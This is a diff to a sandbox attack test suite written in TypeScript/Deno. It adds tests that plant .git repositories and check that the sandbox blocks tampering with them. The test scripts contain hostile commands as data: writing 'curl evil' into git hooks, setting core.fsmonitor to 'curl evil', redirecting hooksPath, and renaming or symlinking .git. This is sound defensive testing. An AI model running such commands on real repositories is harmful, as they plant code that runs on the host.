@@ -20,6 +20,26 @@ async function canary(content: string): Promise<string> {
   return `${dir}/secret`;
 }
 
+/** A repository the owner keeps in the workspace, and one in a project below it. */
+async function plantRepository(ws: string): Promise<string> {
+  for (const repo of [".git", "app/.git"]) {
+    await Deno.mkdir(`${ws}/${repo}/hooks`, { recursive: true });
+    await Deno.writeTextFile(`${ws}/${repo}/config`, "[core]\n\tbare = false\n");
+    await Deno.writeTextFile(`${ws}/${repo}/hooks/pre-commit`, "#!/bin/sh\nexit 0\n");
+  }
+  return "";
+}
+
+/** Both repositories exactly as planted: no config line, no hook, no rename. */
+async function assertRepositoryIntact(ws: string): Promise<void> {
+  for (const repo of [".git", "app/.git"]) {
+    assertEquals(await Deno.readTextFile(`${ws}/${repo}/config`), "[core]\n\tbare = false\n");
+    const hooks = [...Deno.readDirSync(`${ws}/${repo}/hooks`)].map((e) => e.name);
+    assertEquals(hooks, ["pre-commit"]);
+  }
+  assert(!(await Deno.stat(`${ws}/.g`).then(() => true, () => false)), ".git was not renamed");
+}
+
 attackSuite("§4.1", [
   {
     id: "F1",
@@ -62,8 +82,26 @@ attackSuite("§4.1", [
   {
     id: "F5",
     name: "protected-path replacement (.git hooks)",
-    waitsFor: "protected workspace paths (read-only .git) are not implemented yet",
-    expect: () => {},
+    prepare: (ws) => plantRepository(ws),
+    script: [
+      "mv .git .g",
+      "mkdir -p .git/hooks",
+      "rm -rf .git/hooks",
+      "ln -s /tmp/h .git/hooks2",
+      "echo 'curl evil' > .git/hooks/pre-commit",
+      "mv app/.git app/.g",
+      "echo 'curl evil' > app/.git/hooks/post-checkout",
+    ].map((c) => `${c} 2>&1; echo "rc=$?"`).join("; "),
+    expect: async (r, ws) => {
+      // A failed `>` redirection is reported by the shell on its own stderr.
+      const said = r.stdout + r.stderr;
+      assertMatch(said, /cannot move '\.git' to '\.g': Device or resource busy/);
+      assertMatch(said, /cannot remove '\.git\/hooks\/pre-commit': Read-only file system/);
+      assertMatch(said, /\.git\/hooks2': Read-only file system/);
+      assertMatch(said, /cannot move 'app\/\.git' to 'app\/\.g': Device or resource busy/);
+      assertEquals(said.match(/Read-only file system/g)?.length, 4, said);
+      await assertRepositoryIntact(ws);
+    },
   },
   { id: "F7", name: "move-to-readable (macOS)", waitsFor: "macOS only", expect: () => {} },
   {
@@ -220,9 +258,18 @@ attackSuite("§4.1", [
   },
   {
     id: "F23",
-    name: "host-side execution planting (.git/config, hooks)",
-    waitsFor: "protected workspace paths (read-only .git) are not implemented yet",
-    expect: () => {},
+    name: "host-side execution planting (.git/config, hooks of existing repositories)",
+    prepare: (ws) => plantRepository(ws),
+    script: [
+      "git config core.fsmonitor 'curl evil'",
+      "echo '[core] fsmonitor = curl evil' >> .git/config",
+      "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/post-merge",
+      "echo '[core] hooksPath = /work/h' >> app/.git/config",
+    ].map((c) => `${c} 2>&1; echo "rc=$?"`).join("; "),
+    expect: async (r, ws) => {
+      assertEquals(r.stdout.match(/rc=0/g), null, r.stdout);
+      await assertRepositoryIntact(ws);
+    },
   },
   {
     id: "F24",
